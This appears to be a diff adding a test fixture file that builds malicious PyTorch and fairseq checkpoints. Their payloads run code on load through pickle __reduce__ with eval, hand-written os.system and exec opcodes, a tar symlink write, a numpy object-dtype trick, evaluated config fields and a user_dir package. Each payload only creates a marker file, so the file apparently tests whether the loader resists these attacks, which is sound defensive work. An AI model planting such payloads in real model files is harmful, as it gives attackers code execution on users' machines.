@@ -1,0 +1,171 @@
+"""Checkpoints that want to run code: each would make a file, the mark, if it could."""
+
+import copy
+import io
+import pickle
+import tarfile
+from argparse import Namespace
+from collections.abc import Callable
+from pathlib import Path
+
+import torch
+
+
+class Calls:
+    """What calls a function when it is unpickled without weights_only."""
+
+    def __init__(self, function, *arguments) -> None:
+        self.call = function, arguments
+
+    def __reduce__(self):
+        return self.call
+
+
+def expression(mark: Path) -> str:
+    """Return Python that makes the mark."""
+    return f"[open({str(mark)!r}, 'w').close(), (512, 3)][1:] * 2"
+
+
+def pickled(**where) -> Callable:
+    """Return the maker of a checkpoint with a hostile pickle in some part of it."""
+    def make(path: Path, good: dict, mark: Path) -> None:
+        hostile = Calls(eval, expression(mark))
+        state = copy.deepcopy(good)
+        part = where.get("part", "extra_state")
+        state[part] = {"x": hostile} if part != "model" else {**good["model"], "x": hostile}
+        if where.get("args"):
+            state["args"] = Namespace(arch=hostile)
+        if "plain" in where:
+            path.write_bytes(pickle.dumps(state, protocol=where["plain"]))
+        else:
+            torch.save(state, path, **where.get("options", {}))
+    return make  # fmt: skip
+
+
+def imports(module: str, function: str, *arguments: str) -> Callable:
+    """Return the maker of a pickle that calls a function of some module, written by hand."""
+    def make(path: Path, good: dict, mark: Path) -> None:
+        texts = "".join(f"V{argument.format(mark=mark)}\n" for argument in arguments)
+        call = f"c{module}\n{function}\n({texts}tR.".encode()
+        state = io.BytesIO()
+        torch.save({"model": {}, "MARK": 1}, state)
+        replace_pickle(state.getvalue(), path, call)
+    return make  # fmt: skip
+
+
+def replace_pickle(archive: bytes, path: Path, data: bytes) -> None:
+    """Write an archive of torch with another pickle in it."""
+    import zipfile
+
+    with zipfile.ZipFile(io.BytesIO(archive)) as old, zipfile.ZipFile(path, "w") as new:
+        for part in old.infolist():
+            new.writestr(part.filename, data if part.filename.endswith("data.pkl")
+                         else old.read(part))  # fmt: skip
+
+
+def script(path: Path, good: dict, mark: Path) -> None:
+    """A TorchScript archive, whose code torch would compile."""
+    class Writes(torch.nn.Module):
+        def forward(self, x):
+            return x + 1
+    torch.jit.script(Writes()).save(str(path))  # fmt: skip
+
+
+def old_tar(path: Path, good: dict, mark: Path) -> None:
+    """The format of torch before 0.1.10, which unpacks a link first and then writes through it."""
+    def member(tar: tarfile.TarFile, name: str, data: bytes) -> None:
+        info = tarfile.TarInfo(name)
+        info.size = len(data)
+        tar.addfile(info, io.BytesIO(data))
+    with tarfile.open(path, "w:") as tar:
+        link = tarfile.TarInfo("storages")
+        link.type, link.linkname = tarfile.SYMTYPE, str(mark)
+        tar.addfile(link)
+        member(tar, "storages", pickle.dumps(0))
+        member(tar, "tensors", pickle.dumps(0))
+        member(tar, "pickle", pickle.dumps(Calls(eval, expression(mark))))  # fmt: skip
+
+
+def setting(part: str, **settings) -> Callable:
+    """Return the maker of a checkpoint of plain data with a setting that fairseq evaluates.
+
+    part: where the settings are, "args", "cfg" (its model), or another part of cfg. "EVAL" stands
+    for the expression.
+    """
+    def make(path: Path, good: dict, mark: Path) -> None:
+        state = copy.deepcopy(good)
+        task = state["cfg"]["task"]
+        named = {name: value.replace("EVAL", expression(mark)) if isinstance(value, str) else value
+                 for name, value in settings.items()}
+        if part == "args":
+            state["args"] = Namespace(**{**task, "task": "translation", **named})
+        elif part == "cfg":
+            state["cfg"]["model"] = Namespace(**{**task, "_name": named["arch"], **named})
+        else:
+            state["cfg"][part] = {"_name": named.pop("name"), **named}
+        torch.save(state, path)
+    return make  # fmt: skip
+
+
+def user_dir(path: Path, good: dict, mark: Path) -> None:
+    """A checkpoint that names a package of Python beside it."""
+    package = path.parent / "evil_package"
+    package.mkdir(exist_ok=True)
+    (package / "__init__.py").write_text(expression(mark), "utf-8")
+    state = copy.deepcopy(good)
+    state["cfg"]["common"]["user_dir"] = str(package)
+    state["args"] = Namespace(**{**good["cfg"]["task"], "arch": "fconv", "user_dir": str(package)})
+    torch.save(state, path)
+
+
+def type_of_objects(path: Path, good: dict, mark: Path) -> None:
+    """A number of numpy whose type says that it is the address of an object."""
+    import numpy as np
+
+    class Type:
+        def __reduce__(self):
+            return np.dtype, ("O", False, True), (3, "|", None, None, None, -1, -1, 63)
+
+    state = copy.deepcopy(good)
+    core = getattr(np, "_core", None) or np.core
+    state["extra_state"] = {"x": Calls(core.multiarray.scalar, Type(), b"\1" * 8)}
+    torch.save(state, path, pickle_protocol=2)
+
+
+#: Each payload: a function of the path of the file, a good checkpoint, and the mark.
+PAYLOADS: dict[str, Callable[[Path, dict, Path], None]] = {
+    "pickle, beside the weights": pickled(),
+    "pickle, among the weights": pickled(part="model"),
+    "pickle, in the optimiser": pickled(part="last_optimizer_state"),
+    "pickle, in the task": pickled(part="task_state"),
+    "pickle, in the settings": pickled(args=True),
+    "pickle, torch before 1.6": pickled(options={"_use_new_zipfile_serialization": False}),
+    "pickle, protocol 4": pickled(options={"pickle_protocol": 4}),
+    "pickle, not torch's, protocol 2": pickled(plain=2),
+    "pickle, not torch's, protocol 5": pickled(plain=5),
+    "pickle of os.system": imports("os", "system", "touch {mark}"),
+    "pickle of posix.system": imports("posix", "system", "touch {mark}"),
+    "pickle of builtins.exec": imports("builtins", "exec", "open('{mark}', 'w')"),
+    "pickle of torch.load": imports("torch", "load", "{mark}"),
+    "pickle of runpy": imports("runpy", "run_path", "{mark}.py"),
+    "pickle of numpy's objects": type_of_objects,
+    "TorchScript": script,
+    "tar of torch before 0.1.10": old_tar,
+    "args of fconv, encoder": setting("args", arch="fconv", encoder_layers="EVAL"),
+    "args of fconv, decoder": setting("args", arch="fconv", decoder_layers="EVAL"),
+    "args of fconv, attention": setting("args", arch="fconv", decoder_attention="EVAL"),
+    "args of fconv_self_att": setting("args", arch="fconv_self_att", pretrained="EVAL"),
+    "args of fconv_lm": setting("args", arch="fconv_lm", decoder_layers="EVAL"),
+    "args of transformer_lm": setting("args", arch="transformer_lm_gpt", character_embeddings=True,
+                                      character_filters="EVAL"),
+    "args of lightconv": setting("args", arch="lightconv_iwslt_de_en",
+                                 encoder_kernel_size_list="EVAL"),
+    "args of wav2vec2": setting("args", arch="wav2vec2", conv_feature_layers="EVAL"),
+    "args of adaptive softmax": setting("args", arch="transformer", lr="EVAL", adam_betas="EVAL",
+                                        adaptive_softmax_cutoff="EVAL"),
+    "cfg of fconv": setting("cfg", arch="fconv", encoder_layers="EVAL"),
+    "cfg of fconv, dataset": setting("cfg", arch="fconv", decoder_layers="EVAL", dropout=0.1),
+    "criterion ctc": setting("criterion", name="ctc", wer_args="EVAL", zero_infinity=False),
+    "optimizer adam": setting("optimizer", name="adam", adam_betas="EVAL", lr=["EVAL"]),
+    "user_dir": user_dir,
+}  # fmt: skip
